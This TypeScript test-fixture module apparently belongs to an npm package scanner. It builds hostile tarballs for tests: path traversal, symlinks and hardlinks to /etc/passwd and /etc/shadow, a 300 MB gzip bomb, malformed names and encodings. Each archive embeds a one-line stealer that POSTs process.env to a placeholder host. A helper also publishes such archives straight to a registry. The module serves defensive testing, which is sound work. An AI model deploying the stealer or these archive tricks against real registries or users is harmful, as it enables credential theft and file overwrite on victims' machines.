import { createHash } from 'node:crypto'
import { createWriteStream } from 'node:fs'
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { Readable, type Writable } from 'node:stream'
import { pipeline } from 'node:stream/promises'
import { once } from 'node:events'
import { createGzip, gzipSync } from 'node:zlib'
import tar from 'tar-stream'

/**
 * Generators of hostile npm tarballs, built when a test runs (nothing large is committed). Each
 * hostile part sits beside `MALICIOUS_JS`, an ordinary env stealer, so a test can prove that the
 * rest of the package is still analysed. Large entries are streamed through gzip to disk, never
 * held in memory at once.
 */

export const MALICIOUS_JS = "require('https').request({ hostname: 'x.example.invalid', method: 'POST' }).end(JSON.stringify(process.env))\n"

export interface GenEntry {
  name: string
  type?: tar.Header['type']
  linkname?: string
  mode?: number
  content?: string | Buffer
  /** A streamed entry: its exact size and a generator of chunks that add up to it. */
  stream?: { size: number; chunks: () => Iterable<Buffer> }
}

export interface TarOptions {
  /** gzip the archive (default true). */
  gzip?: boolean
  level?: number
}

/** Writes entries through tar-stream (and gzip) to `path`, streaming large entries. */
export async function writeTarball(path: string, entries: readonly GenEntry[], options: TarOptions = {}): Promise<string> {
  const pack = tar.pack()
  const out = createWriteStream(path)
  const done = options.gzip === false ? pipeline(pack, out) : pipeline(pack, createGzip({ level: options.level ?? 6 }), out)
  for (const entry of entries) await addEntry(pack, entry)
  pack.finalize()
  await done
  return path
}

/** A small tar archive in memory (plain, not gzipped). */
export async function tarBuffer(entries: readonly GenEntry[]): Promise<Buffer> {
  const pack = tar.pack()
  const chunks: Buffer[] = []
  pack.on('data', (c: unknown) => chunks.push(c as Buffer))
  const ended = once(pack, 'end')
  for (const entry of entries) await addEntry(pack, entry)
  pack.finalize()
  await ended
  return Buffer.concat(chunks)
}

async function addEntry(pack: tar.Pack, entry: GenEntry): Promise<void> {
  const header: Partial<tar.Header> & { name: string } = { name: entry.name, type: entry.type ?? 'file', mode: entry.mode ?? 0o644, ...(entry.linkname && { linkname: entry.linkname }) }
  if (entry.stream) {
    const { size, chunks } = entry.stream
    await new Promise<void>((resolve, reject) => {
      const sink = pack.entry({ ...header, size }, (error) => (error ? reject(error) : resolve())) as unknown as Writable
      void (async () => {
        for (const chunk of chunks()) {
          if (!sink.write(chunk)) await once(sink, 'drain')
        }
        sink.end()
      })().catch(reject)
    })
    return
  }
  await new Promise<void>((resolve, reject) => {
    const cb = (error?: Error | null) => (error ? reject(error) : resolve())
    if (entry.content === undefined) pack.entry(header, cb)
    else pack.entry(header, entry.content, cb)
  })
}

/**
 * Replaces the ASCII `placeholder` in a tar header with raw `bytes` of the same length and fixes
 * the header checksum: how an entry name that is not UTF-8 gets into an archive.
 */
export function patchHeaderName(tarball: Buffer, placeholder: string, bytes: Buffer): Buffer {
  if (bytes.length !== placeholder.length) throw new Error('the replacement must have the placeholder’s length')
  const out = Buffer.from(tarball)
  const at = out.indexOf(placeholder, 0, 'latin1')
  if (at < 0) throw new Error(`placeholder ${placeholder} not found`)
  bytes.copy(out, at)
  const block = at - (at % 512)
  out.fill(0x20, block + 148, block + 156)
  let sum = 0
  for (let i = block; i < block + 512; i++) sum += out[i]!
  out.write(`${sum.toString(8).padStart(6, '0')}\0 `, block + 148, 'latin1')
  return out
}

export function manifestOf(name: string, extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ name, version: '1.0.0', main: 'index.js', ...extra })
}

/**
 * `size` bytes of one minified line (`a.push(<digits>,…);` with pseudo-random numbers, so it
 * compresses like real minified code, ~3×, not like a bomb), generated 1 MB at a time.
 */
export function minifiedChunks(size: number): () => Iterable<Buffer> {
  return function* () {
    let x = 0x9e3779b9
    let left = size
    while (left > 0) {
      const n = Math.min(left, 1024 * 1024)
      const parts: string[] = []
      let length = 0
      while (length < n) {
        x ^= x << 13
        x ^= x >>> 17
        x ^= x << 5
        const statement = `a.push(${x >>> 0},${(x >>> 7) & 0xffff},"k${(x >>> 3) & 0xfff}");`
        parts.push(statement)
        length += statement.length
      }
      yield Buffer.from(parts.join('')).subarray(0, n)
      left -= n
    }
  }
}

/** `size` zero bytes, 1 MB at a time (the same buffer each time: nothing accumulates). */
export function zeroChunks(size: number): () => Iterable<Buffer> {
  return function* () {
    const block = Buffer.alloc(1024 * 1024)
    let left = size
    while (left > 0) {
      const n = Math.min(left, block.length)
      yield block.subarray(0, n)
      left -= n
    }
  }
}

/** Deterministic noise (xorshift), for binary files. */
export function noise(length: number, seed = 7): Buffer {
  const out = Buffer.alloc(length)
  let x = seed | 1
  for (let i = 0; i < length; i++) {
    x ^= x << 13
    x ^= x >>> 17
    x ^= x << 5
    out[i] = x & 0xff
  }
  return out
}

export const nested = (depth: number, open = '[', close = ']'): string => `module.exports = ${open.repeat(depth)}1${close.repeat(depth)};\n`

export interface HostileCase {
  /** Short id, also the package name suffix (`tarsier-hostile-<id>`). */
  id: string
  pkg: string
  /** Writes the case's tarball into `dir` and returns its path. */
  build(dir: string): Promise<string>
}

const pkgName = (id: string) => `tarsier-hostile-${id}`

/** The package.json and the stealer every case carries, then its hostile entries. */
function withStealer(id: string, hostile: GenEntry[], manifestExtra: Record<string, unknown> = {}): GenEntry[] {
  return [
    { name: 'package/package.json', content: manifestOf(pkgName(id), manifestExtra) },
    { name: 'package/index.js', content: MALICIOUS_JS },
    ...hostile,
  ]
}

function simpleCase(id: string, hostile: GenEntry[], manifestExtra?: Record<string, unknown>): HostileCase {
  return { id, pkg: pkgName(id), build: (dir) => writeTarball(join(dir, `${pkgName(id)}.tgz`), withStealer(id, hostile, manifestExtra)) }
}

export const HOSTILE_CASES = {
  traversal: simpleCase('traversal', [{ name: 'package/../../evil.js', content: MALICIOUS_JS }]),
  absolute: simpleCase('absolute', [{ name: '/etc/evil.js', content: MALICIOUS_JS }]),
  links: simpleCase('links', [
    { name: 'package/passwd.js', type: 'symlink', linkname: '/etc/passwd' },
    { name: 'package/hard.js', type: 'link', linkname: '/etc/shadow' },
  ]),
  special: simpleCase('special', [
    { name: 'package/pipe.js', type: 'fifo' },
    { name: 'package/tty.js', type: 'character-device' },
  ]),
  duplicate: simpleCase('duplicate', [
    // npm keeps the last copy: the benign first copy must not hide the second.
    { name: 'package/lib.js', content: 'module.exports = 1\n' },
    { name: 'package/lib.js', content: MALICIOUS_JS },
  ]),
  'non-utf8-name': {
    id: 'non-utf8-name',
    pkg: pkgName('non-utf8-name'),
    async build(dir) {
      const raw = await tarBuffer(withStealer('non-utf8-name', [{ name: 'package/bad-XXXX.js', content: MALICIOUS_JS }]))
      const path = join(dir, `${pkgName('non-utf8-name')}.tgz`)
      await writeFile(path, gzipSync(patchHeaderName(raw, 'XXXX', Buffer.from([0xff, 0xfe, 0xc3, 0x28]))))
      return path
    },
  },
  'truncated-gzip': {
    id: 'truncated-gzip',
    pkg: pkgName('truncated-gzip'),
    async build(dir) {
      const raw = await tarBuffer(withStealer('truncated-gzip', [{ name: 'package/filler.bin', content: noise(64 * 1024) }]))
      const gz = gzipSync(raw)
      const path = join(dir, `${pkgName('truncated-gzip')}.tgz`)
      await writeFile(path, gz.subarray(0, Math.floor(gz.length * 0.7)))
      return path
    },
  },
  'gzip-bomb': {
    id: 'gzip-bomb',
    pkg: pkgName('gzip-bomb'),
    // 300 MB of zeros gzip to ~300 KB; streamed, never in memory at once.
    build: (dir) =>
      writeTarball(join(dir, `${pkgName('gzip-bomb')}.tgz`), withStealer('gzip-bomb', [{ name: 'package/zeros.bin', stream: { size: 300 * 1024 * 1024, chunks: zeroChunks(300 * 1024 * 1024) } }]), { level: 9 }),
  },
  'huge-minified': simpleCase('huge-minified', []),
  'deep-nesting': simpleCase('deep-nesting', [
    { name: 'package/deep-array.js', content: nested(100_000) },
    { name: 'package/deep-parens.js', content: nested(100_000, '(', ')') },
  ]),
  'install-syntax-error': simpleCase('install-syntax-error', [{ name: 'package/install.js', content: 'const payload = ;; {{ function (\n' }], { scripts: { postinstall: 'node install.js' } }),
  'binary-js': simpleCase('binary-js', [{ name: 'package/blob.js', content: noise(32 * 1024) }]),
  'utf16-bom': simpleCase('utf16-bom', [{ name: 'package/wide.js', content: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(MALICIOUS_JS, 'utf16le')]) }]),
  'utf8-bom': simpleCase('utf8-bom', [{ name: 'package/bom.js', content: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(MALICIOUS_JS)]) }]),
} satisfies Record<string, HostileCase>

// The 50 MB single-line file is streamed too.
HOSTILE_CASES['huge-minified'].build = (dir) =>
  writeTarball(
    join(dir, `${pkgName('huge-minified')}.tgz`),
    withStealer('huge-minified', [{ name: 'package/dist/huge.min.js', stream: { size: 50 * 1024 * 1024, chunks: minifiedChunks(50 * 1024 * 1024) } }]),
    { level: 1 },
  )

/** npm's `0.0.1-security` placeholder for a package removed as malware. */
export function securityPlaceholderEntries(name: string): GenEntry[] {
  return [
    { name: 'package/package.json', content: JSON.stringify({ name, version: '0.0.1-security', description: 'security holding package', repository: 'npm/security-holder' }) },
    { name: 'package/README.md', content: `# Security holding package\n\nThis package contained malicious code and was removed from the registry by the npm security team. A placeholder was published to ensure users are not affected in the future.\n` },
  ]
}

/**
 * Publishes a tarball to the registry as-is (npm's publish document, one PUT), so that hostile
 * archives reach the registry byte for byte. Returns the lockfile entry for it.
 */
export async function publishTarball(registry: string, name: string, version: string, tgzPath: string, manifest: Record<string, unknown> = {}): Promise<{ version: string; resolved: string; integrity: string }> {
  const data = await readFile(tgzPath)
  const base = registry.endsWith('/') ? registry : `${registry}/`
  const file = `${name}-${version}.tgz`
  const resolved = `${base}${name}/-/${file}`
  const integrity = `sha512-${createHash('sha512').update(data).digest('base64')}`
  const body = {
    _id: name,
    name,
    'dist-tags': { latest: version },
    versions: { [version]: { name, version, ...manifest, _id: `${name}@${version}`, dist: { tarball: resolved, shasum: createHash('sha1').update(data).digest('hex'), integrity } } },
    _attachments: { [file]: { content_type: 'application/octet-stream', data: data.toString('base64'), length: data.length } },
  }
  const response = await fetch(`${base}${encodeURIComponent(name).replace(/^%40/, '@')}`, {
    method: 'PUT',
    headers: { 'content-type': 'application/json', authorization: 'Bearer tarsier-test' },
    body: JSON.stringify(body),
  })
  if (!response.ok && response.status !== 409) throw new Error(`publishing ${name}@${version}: ${response.status} ${await response.text()}`)
  return { version, resolved, integrity }
}

/** Readable of a buffer in chunks, as a network response arrives. */
export function chunked(buffer: Buffer, size = 4096): Readable {
  const parts: Buffer[] = []
  for (let i = 0; i < buffer.length; i += size) parts.push(buffer.subarray(i, i + size))
  return Readable.from(parts, { objectMode: false })
}
